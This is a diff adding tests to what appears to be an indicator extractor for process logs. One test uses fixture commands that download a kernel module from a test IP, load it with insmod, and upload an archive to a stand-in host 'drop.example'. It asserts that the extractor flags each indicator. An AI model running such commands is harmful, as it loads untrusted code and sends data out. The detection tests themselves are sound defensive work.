@@ -166,3 +166,39 @@ def test_whom_a_request_only_names_is_innocent(find):
     values = {value for _, value in find([{**request, "target": target, "agent": agent}])}
     assert not [value for value in values if "198.51.100.250" in value or "innocent" in value]
     assert any("evil.example" in value for value in values)
+
+
+def test_what_a_command_fetched_sent_and_loaded(find):
+    lines = [
+        "wget -q http://203.0.113.9:8000/helper.ko -O /opt/helper.ko",
+        "insmod /opt/helper.ko",
+        "curl -T /srv/a.tgz ftp://drop.example/in/",
+    ]
+    events = [
+        {"action": "process_start", "product": "linux", "host": "web-1", "process": "/usr/bin/x", "command": line}
+        for line in lines
+    ]
+    assert set(find(events)) >= {
+        ("ip", "203.0.113.9"),
+        ("url", "http://203.0.113.9:8000/helper.ko"),
+        ("file", "/opt/helper.ko"),
+        ("domain", "drop.example"),
+    }
+
+
+def test_what_a_command_packs_or_reads_is_no_indicator(find):
+    line = "tar czf /srv/backup.tgz /srv/www"
+    assert (
+        find(
+            [
+                {
+                    "action": "process_start",
+                    "product": "linux",
+                    "host": "web-1",
+                    "process": "/usr/bin/tar",
+                    "command": line,
+                }
+            ]
+        )
+        == []
+    )
